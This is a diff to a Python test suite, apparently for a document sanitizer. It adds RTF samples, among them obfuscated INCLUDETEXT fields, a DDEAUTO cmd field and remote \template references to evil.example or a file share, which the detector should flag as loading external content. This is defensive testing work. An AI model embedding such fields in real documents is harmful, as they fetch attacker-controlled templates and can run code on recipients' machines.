@@ -58,6 +58,12 @@ def test_honest_file_is_taken(content):
         (rb"{\rtf1{\field{\*\fldinst INCLUDETEXT\tab http://evil.example}}}", Reason.LOADS),
         (rb"{\rtf1{\field{\*\fldinst " + b"{\\b}" * 1000 + b"DDEAUTO cmd}}}", Reason.LOADS),
         (rb"{\rtf1{\field{\*\fldinst \bin1 }INCLUDETEXT http://evil.example}}}", Reason.LOADS),
+        (rb"{\rtf1{\field{\*\fldinst {\bkmkstart PAGE }INCLUDETEXT http://evil.example}}}", Reason.LOADS),
+        (rb"{\rtf1{\field{\*\fldinst INCL{\bkmkstart x}UDETEXT http://evil.example}}}", Reason.LOADS),
+        (b"{\\rtf1{\\field{\\*\\fldinst\r\nINCLUDETEXT http://evil.example}}}", Reason.LOADS),
+        (b"{\\rtf1{\\*\\template\nhttp://evil.example/t.dotm}}", Reason.LOADS),
+        (rb"{\rtf1{\*\template file://\uc0\u104 /users/t.dotm}}", Reason.LOADS),
+        (rb"{\rtf1{\*\template file://users/share/t.dotm}}", Reason.LOADS),
         (rb"{\rtf1 " + b"{\\fldinst " * 100_000, Reason.DAMAGED),
     ],
 )
